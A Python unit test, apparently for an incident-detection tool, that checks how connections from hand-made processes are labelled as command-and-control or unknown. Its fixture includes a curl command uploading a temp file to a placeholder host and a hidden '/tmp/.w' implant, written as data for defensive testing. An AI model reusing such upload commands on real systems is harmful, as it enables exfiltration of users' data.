"""An outside address's role for the process that connected to it (findings/_incident.py
``_role``), on a few hand-made processes and edges."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings import graph as G
from kernelsec_nb.findings._incident import _role
from kernelsec_nb.findings.engine import DEFAULT

S = 1_000_000_000


def edges(*rows: tuple) -> pl.DataFrame:
    return pl.DataFrame([dict(zip(G.EDGE_SCHEMA, r, strict=True)) for r in rows], schema=G.EDGE_SCHEMA)


def test_with_no_exit_known_in_the_part_only_a_later_connection_shows_a_process_kept_running():
    # a sensor that writes no exit events (Inspektor Gadget): an upload's one connection is no channel,
    # an implant that connects again two minutes later is
    info = {"sh": {"start_ns": 1 * S, "binary": "/bin/sh", "args": "-c x"},
            "up": {"start_ns": 10 * S, "binary": "/usr/bin/curl", "args": "-T /tmp/d https://x/u",
                   "parent_exec_id": "sh"},
            "imp": {"start_ns": 20 * S, "binary": "/tmp/.w", "args": "", "parent_exec_id": "sh"}}
    ids = ["sh", "up", "imp"]
    e = edges(("proc:up", "ext:203.0.113.1:443", G.CONNECT, 10 * S, "", "f1"),
              ("proc:imp", "ext:203.0.113.2:443", G.CONNECT, 21 * S, "", "f2"),
              ("proc:imp", "ext:203.0.113.2:443", G.CONNECT, 140 * S, "", "f3"))
    assert _role("up", 10 * S, ids, set(ids), info, e, DEFAULT) == "unknown"
    assert _role("imp", 21 * S, ids, set(ids), info, e, DEFAULT) == "c2"
    # where the part's exits are known, one still running at the end of the capture kept running
    info["sh"]["exit_ns"] = 2 * S
    assert _role("up", 10 * S, ids, set(ids), info, e, DEFAULT) == "c2"
